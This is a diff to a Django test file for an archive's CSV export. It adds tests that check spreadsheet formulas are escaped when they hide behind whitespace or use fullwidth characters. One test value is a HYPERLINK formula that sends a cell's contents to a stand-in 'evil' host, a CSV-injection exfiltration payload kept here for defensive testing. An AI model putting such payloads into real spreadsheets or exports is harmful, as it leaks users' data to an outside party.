@@ -16,7 +16,7 @@ from django.core.management import call_command
 from archive.citations import Citation
 from archive.importing import Writer
 from archive.models import Delegation, Speaker
-from archive.opendata.exports import FORMULA_STARTS, csv_cell
+from archive.opendata.exports import csv_cell, starts_a_formula
 from archive.parsing import ParsedMeeting, ParsedStatement
 from archive.search import upkeep
 from archive.stats import refresh_summaries
@@ -83,12 +83,20 @@ def assert_inert(rows: list[dict[str, str]]) -> None:
     assert rows
     for row in rows:
         for name, cell in row.items():
-            assert not cell.startswith(FORMULA_STARTS), (name, cell)
+            assert not starts_a_formula(cell), (name, cell)
 
 
 def texts(rows: list[dict[str, str]]) -> list[str]:
     """The statement texts as a spreadsheet shows them (without the apostrophe)."""
     return [r["text"].removeprefix("'") for r in rows]
+
+
+@pytest.mark.parametrize(
+    "hidden", [' =HYPERLINK("http://evil/?"&A1,"x")', "\u00a0=1+1", "\n=1+1", "＝1+1", "＋cmd", "  @SUM(A1)"]
+)
+def test_formulas_behind_white_space_or_in_fullwidth_forms_are_inert(hidden):
+    assert csv_cell(hidden) == "'" + hidden
+    assert starts_a_formula(hidden)
 
 
 def test_csv_cell():
